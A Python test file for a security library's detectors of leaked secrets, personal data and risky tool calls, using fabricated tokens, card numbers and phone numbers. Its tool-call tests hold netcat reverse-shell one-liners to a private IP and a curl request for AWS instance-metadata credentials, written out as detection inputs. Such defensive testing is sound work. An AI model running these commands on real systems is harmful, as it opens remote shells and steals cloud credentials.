"""Review of the PII, secret and tool-call detectors: real-world formats they missed or misread.

Each test names an input a detector mishandled before its fix. Credentials are assembled from pieces
so that secret scanners do not flag this file; none is real.
"""

from __future__ import annotations

import json
import time

import pytest

from llmtrace.security.findings import Severity
from llmtrace.security.masking import mask_sensitive, sensitive_spans
from llmtrace.security.pii import find_pii
from llmtrace.security.secrets import find_secrets
from llmtrace.security.tool_calls import find_tool_call_risks

LOCATION = "request.messages[1].content"

# A fine-grained GitHub token: `github_pat_`, 22 characters, `_`, 59 characters.
GITHUB_PAT = (
    "github"
    + "_pat_"
    + "11ABCDEFG0aB3dE5fG7hI9"
    + "_"
    + "jKlM3nO5pQ7rS9tU1vW3xY5zZaB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY"
)
# A Slack refresh token (token rotation): `xoxe-1-` and a base64 payload.
SLACK_REFRESH = "xo" + "xe-1-" + "My1xLTEyMzQ1Njc4OTAxMi0xMjM0NTY3ODkwMTIzLTEyMzQ1Njc4OTAxMjM0NTY3"
# An incoming-webhook URL: workspace id, bot id and a 24-character secret.
SLACK_WEBHOOK_SECRET = "T0123ABCD/B0123EFGH/" + "aB3dE5fG7hI9jK1lM3nO5pQ7"
SLACK_WEBHOOK = "https://hooks.slack" + ".com/services/" + SLACK_WEBHOOK_SECRET


def _detectors(text: str) -> list[str]:
    return [f.detector for f in find_secrets(text, LOCATION) + find_pii(text, LOCATION)]


def _masked_everywhere(text: str, value: str) -> bool:
    """Whether masking hides `value` both in `mask_sensitive` and in `sensitive_spans` (excerpts)."""
    position = text.index(value)
    covered = any(
        start <= position and position + len(value) <= end for start, end, _ in sensitive_spans(text)
    )
    return value not in mask_sensitive(text) and covered


# --- secrets -------------------------------------------------------------------------------------


def test_fine_grained_github_token_is_masked_in_captured_text() -> None:
    # "github_pat_" holds no "gh": the pre-check for GitHub tokens in masking.py skipped it, so
    # captured spans and other findings' excerpts kept the token in clear.
    text = f"use {GITHUB_PAT} for the API"
    assert [f.detector for f in find_secrets(text, LOCATION)] == ["regex.secret.github_token"]
    assert _masked_everywhere(text, GITHUB_PAT)


def test_slack_refresh_token_is_reported() -> None:
    # masking.py masked `xoxe-` tokens, secrets.py did not report them.
    findings = find_secrets(f"SLACK_REFRESH_TOKEN {SLACK_REFRESH}", LOCATION)
    assert [f.detector for f in findings] == ["regex.secret.slack_token"]
    assert findings[0].severity is Severity.CRITICAL
    assert SLACK_REFRESH not in findings[0].excerpt


def test_slack_webhook_url_is_reported_and_masked() -> None:
    text = f"post alerts to {SLACK_WEBHOOK} please"
    findings = find_secrets(text, LOCATION)
    assert [f.detector for f in findings] == ["regex.secret.slack_token"]
    assert findings[0].type == "secret_leakage"
    assert SLACK_WEBHOOK_SECRET not in findings[0].excerpt
    assert _masked_everywhere(text, SLACK_WEBHOOK_SECRET)


def test_slack_webhook_placeholders_are_not_reported() -> None:
    for url in (
        "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
        "https://hooks.slack.com/services/YOUR/WEBHOOK/URL",
    ):
        assert find_secrets(f"webhook: {url}", LOCATION) == [], url


@pytest.mark.parametrize(
    "text",
    [
        "npm install sk-react-components-library-v2",
        "The branch sk-ant-feature-request-handling-for-teams was merged",
        "docker pull ghcr.io/org/sk-proj-dashboard-service-frontend:latest",
        "We use sk-learn-compatible-estimators-everywhere in the pipeline",
    ],
)
def test_kebab_case_names_after_sk_are_not_api_keys(text: str) -> None:
    # Package, branch and image names that start with `sk-` were critical OpenAI/Anthropic keys.
    assert find_secrets(text, LOCATION) == []


@pytest.mark.parametrize(
    "key",
    [
        "sk-" + "proj-" + "Ab3De5Fg7Hi9Jk1Lm3No5Pq7Rs9Tu1Vw" + "-" + "T3BlbkFJ" + "xY7kP2qR9sT4uV6wZ1aB3cD5",
        "sk-" + "svcacct-" + "Ab3De5Fg7Hi9Jk1Lm3No5Pq7Rs9Tu1VwT3BlbkFJ",
        "sk-" + "1234567890abcdef1234567890abcdef",
        "sk-" + "ant-api03-" + "Xy9Wv8Ut7Sr6Qp5On4Ml3Kj2Ih1Gf0Ed-Xy9Wv8Ut7Sr6Qp5On4Ml3Kj2Ih1Gf0EdAA",
    ],
)
def test_real_shaped_sk_keys_are_still_reported(key: str) -> None:
    findings = find_secrets(f"key {key}", LOCATION)
    assert len(findings) == 1
    assert findings[0].severity is Severity.CRITICAL


# --- PII -----------------------------------------------------------------------------------------


def test_e164_number_is_a_phone_not_a_card() -> None:
    # A German mobile number in E.164 is 13 digits starting with 4: one in ten passes Luhn and was
    # reported as a Visa card (high) instead of a phone number (medium).
    text = "mobile +4915112345678"
    assert _detectors(text) == ["regex.pii.phone"]
    assert find_pii(text, LOCATION)[0].severity is Severity.MEDIUM


@pytest.mark.parametrize(
    "phone", ["+33 1 42 68 53 00", "+33 6 12 34 56 78", "+353 1 234 5678", "+31 6 12345678"]
)
def test_international_phone_with_a_one_digit_area_code_is_masked(phone: str) -> None:
    # find_pii reports these; masking (captured spans, other findings' excerpts) left them in clear.
    text = f"key tel {phone} thanks"
    assert "regex.pii.phone" in _detectors(text)
    assert _masked_everywhere(text, phone)


@pytest.mark.parametrize(
    "text",
    [
        "2024-01-05 4532 0151 1283 0366 declined",
        "Card 2 4532 0151 1283 0366",
        "qty 3 4532-0151-1283-0366",
    ],
)
def test_card_after_a_short_number_is_masked(text: str) -> None:
    # The masking pattern took the number before the card as the card's first digits, failed Luhn
    # and moved on past the card: find_pii reported it, captured text kept it.
    card = "4532 0151 1283 0366" if "4532 " in text else "4532-0151-1283-0366"
    assert "regex.pii.credit_card" in _detectors(text)
    assert _masked_everywhere(text, card)


def test_masking_does_not_mask_lists_of_small_numbers_as_cards() -> None:
    text = "scores 12 34 56 78 90 12 34 56 78 and 1 2 3 4 5 6 7 8 9 10 11 12 13 14"
    assert "[CREDIT_CARD]" not in mask_sensitive(text)


# --- tool calls ----------------------------------------------------------------------------------


def _tool(cmd: str) -> list[tuple[str, Severity]]:
    return [(f.detector, f.severity) for f in find_tool_call_risks("shell", json.dumps({"cmd": cmd}), "tc")]


@pytest.mark.parametrize(
    "cmd",
    [
        "nc -e /bin/sh 10.0.0.1 4444",
        "ncat -e /bin/bash 10.0.0.1 4444",
        "nc -c bash 10.0.0.1 4444",
        "ncat --sh-exec 'bash -i' 10.0.0.1 4444",
        "nc -lvnp 4444 -e /bin/bash",
    ],
)
def test_netcat_with_exec_before_the_host_is_a_reverse_shell(cmd: str) -> None:
    # The classic one-liner puts `-e` first; only `nc HOST PORT -e` was recognised.
    assert ("regex.tool.reverse_shell", Severity.CRITICAL) in _tool(cmd)


@pytest.mark.parametrize("cmd", ["nc -zv db.internal 5432", "nc -l 8080", "echo hi | nc -q 1 host 9000"])
def test_netcat_without_exec_is_not_a_reverse_shell(cmd: str) -> None:
    assert all(detector != "regex.tool.reverse_shell" for detector, _ in _tool(cmd))


def test_aws_ipv6_metadata_address_is_ssrf() -> None:
    # EC2's instance metadata over IPv6 (Nitro): the same credentials as 169.254.169.254, which is
    # `ssrf_scheme` (high); this was only a raw IP URL (medium).
    found = _tool("curl http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/")
    assert ("regex.tool.ssrf_scheme", Severity.HIGH) in found


# --- linear time ---------------------------------------------------------------------------------


@pytest.mark.parametrize("unit", ["1234 ", "1 4532 ", "1.", "+33 1 ", "nc -a ", "nc -e "])
def test_new_patterns_stay_linear(unit: str) -> None:
    # The card pattern now reads whole digit runs, the netcat rule looks at options before the host:
    # 200 KB of either must not backtrack (about 0.3 s here; a quadratic pattern takes minutes).
    text = (unit * (200_000 // len(unit) + 1))[:200_000]
    started = time.perf_counter()
    mask_sensitive(text)
    sensitive_spans(text)
    find_pii(text, LOCATION)
    find_tool_call_risks("shell", json.dumps({"cmd": text[:65_536]}), "tc")
    assert time.perf_counter() - started < 3.0
